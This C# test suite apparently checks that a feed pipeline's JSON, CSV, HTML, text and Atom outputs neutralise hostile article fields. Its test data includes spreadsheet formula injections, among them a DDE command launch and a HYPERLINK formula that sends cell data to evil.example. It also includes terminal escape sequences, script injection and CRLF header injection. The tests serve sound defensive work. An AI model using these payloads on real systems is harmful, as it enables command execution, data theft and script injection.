using System.Text;
using System.Text.Json.Nodes;
using System.Xml.Linq;
using AngleSharp.Html.Parser;
using FeedPipeline.Articles;
using FeedPipeline.Documents;
using FeedPipeline.Normalizing;
using FeedPipeline.Publishing.Formats;
using FeedPipeline.Tests.Normalizing;

namespace FeedPipeline.Tests.Publishing.Formats;

/// <summary>What strangers wrote does no harm in any form, whatever field it stands in and even where nobody cleaned it.</summary>
public sealed class HostileFieldsTests
{
    private static readonly string[] Formulas =
        ["=1+1", "+1", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1", "\r=1", "\n=1", "  =1", "\uFEFF=1", "\u200B=1", "\uFF1D1+1", "\uFF0B1", "\u2212 1", "=HYPERLINK(\"https://evil.example?\"&A1)", "\"=1", ";=1"];

    private static readonly string[] Steering =
    [
        "done\r\n2026-01-01T00:00:00Z fail: forged line", "red \u001b[31m", "title \u001b]0;x\u0007", "eight bits \u009b31m", "back\b\b\b", "bell \a", "nul \0", "del \u007f", "line \u2028 and \u2029", "next \u0085 line",
        "half \uD83D pair", "\uDE00 half", "not a character \uFFFE \uFFFF", "\f form feed", "]]> <![CDATA[", "--> <!--", "</script><script>hit()</script>", "\"}],\"x\":[{", "&amp;lt;b&gt;", "%0d%0aSet-Cookie: x",
    ];

    private static readonly HashSet<string> Uris = ["href", "src"];

    public static TheoryData<string> Families => ["formulas", "steering", "attacks"];

    [Theory]
    [MemberData(nameof(Families))]
    public async Task A_hostile_field_does_no_harm_in_any_form(string family)
    {
        foreach (var payload in Payloads(family))
        {
            var article = SampleArticles.Stored(1, Full(payload));
            AssertJson(SampleArticles.Write(SampleArticles.Formats.Json, article), payload);
            AssertJson(SampleArticles.Write(SampleArticles.Formats.Ninjs, article), payload);
            AssertJson(SampleArticles.Write(SampleArticles.Formats.JsonLd, article), payload);
            AssertCsv(await SampleArticles.WriteAllAsync(SampleArticles.Formats.Csv, article), payload);
            AssertPage(SampleArticles.Write(SampleArticles.Formats.Html, article), payload);
            AssertText(await SampleArticles.WriteAllAsync(SampleArticles.Formats.Text, article, article), payload);
            AssertAtom(await ListAsync(AtomFeed.WriteAsync, article, payload), payload);
            AssertJson(await ListAsync(JsonFeed.WriteAsync, article, payload), payload);
        }
    }

    private static IEnumerable<string> Payloads(string family) => family switch
    {
        "formulas" => Formulas,
        "steering" => Steering,
        _ => Attacks.All,
    };

    private static Article Full(string payload) => new()
    {
        Headline = payload,
        Dek = payload,
        Byline = payload,
        Authors = [payload, payload],
        PhotoCredit = payload,
        PhotoCaption = payload,
        PhotoUrl = payload,
        Body = payload + "\n\n" + payload,
        BodyHtml = payload,
        Language = payload,
        Url = payload,
        CanonicalUrl = "https://a.example/" + payload,
        Section = payload,
        Tags = [payload],
        Guid = payload,
        Rights = payload,
        Enclosures = [new Enclosure(payload, payload), new Enclosure("https://a.example/" + payload, payload, -1)],
        Provenance = new Dictionary<string, string> { [payload] = payload },
    };

    private static async Task<string> ListAsync(Func<Stream, RepublishedFeed, IAsyncEnumerable<StoredArticle>, CancellationToken, Task> write, StoredArticle article, string payload)
    {
        // Readers of feeds get the markup that the pipeline has sanitised.
        var stored = SampleArticles.Stored(1, article.Content with { BodyHtml = SanitisedHtml.Of(payload) });
        using var output = new MemoryStream();
        await write(output, new RepublishedFeed { Title = payload, SelfUrl = "https://a.example/?q=" + payload, UpdatedAt = DateTimeOffset.UnixEpoch }, new[] { stored }.ToAsyncEnumerable(), CancellationToken.None);
        return Encoding.UTF8.GetString(output.ToArray());
    }

    private static void AssertJson(string json, string payload)
    {
        Assert.NotNull(JsonNode.Parse(json));
        AssertSteersNothing(json.TrimEnd('\n'), "", payload);
    }

    private static void AssertCsv(string csv, string payload)
    {
        AssertSteersNothing(csv, "\r\n\t", payload);
        var rows = Csv.Read(csv);
        Assert.Equal(2, rows.Count);
        foreach (var cell in rows[1])
            Assert.False(cell.TrimStart(' ', '\u00A0', '\uFEFF', '\u200B').FirstOrDefault() is '=' or '+' or '-' or '@' or '\t' or '\r' or '\n' or '\uFF1D' or '\uFF0B' or '\uFF0D' or '\uFF20', $"{payload}: {cell}");
    }

    private static void AssertPage(string page, string payload)
    {
        AssertSteersNothing(page, "\n\t", payload);
        var document = new HtmlParser().ParseDocument(page);
        Assert.Single(document.QuerySelectorAll("h1"));
        Assert.Single(document.QuerySelectorAll("style"));
        Assert.Empty(document.QuerySelectorAll("script,iframe,object,embed,form,input,button,svg,math,base,link,template,video,audio,frameset,noscript,meta[http-equiv=refresh]"));
        foreach (var attribute in document.All.SelectMany(element => element.Attributes))
        {
            Assert.False(attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase) || attribute.Name is "style" or "srcdoc" or "srcset", $"{payload}: {attribute.Name}");
            if (Uris.Contains(attribute.Name))
                Assert.Matches("^(https?:|mailto:)", attribute.Value);
        }
    }

    private static void AssertText(string text, string payload)
    {
        AssertSteersNothing(text, "\n\f", payload);
        Assert.Equal(3, text.Split("\f\n").Length);
    }

    private static void AssertAtom(string atom, string payload)
    {
        AssertSteersNothing(atom, "\n\t\r", payload);
        var xml = XDocument.Parse(atom);
        Assert.All(xml.Descendants().Where(element => element.Name.LocalName == "link"), link => Assert.Matches("^https?:", (string)link.Attribute("href")!));
        var markup = (string?)xml.Descendants().SingleOrDefault(element => element.Name.LocalName == "content" && (string?)element.Attribute("type") == "html");
        if (markup is not null)
            Assert.Empty(new HtmlParser().ParseDocument(markup).QuerySelectorAll("script,iframe,object,embed,form,svg,math,style"));
    }

    /// <summary>No control characters but those allowed, and nothing that some programs take for a line's end.</summary>
    private static void AssertSteersNothing(string written, string allowed, string payload)
    {
        foreach (var character in written)
        {
            var steers = char.IsControl(character) || character is '\u2028' or '\u2029' or '\uFFFE' or '\uFFFF';
            Assert.False(steers && !allowed.Contains(character), $"{payload}: U+{(int)character:X4} in {written}");
        }
    }
}
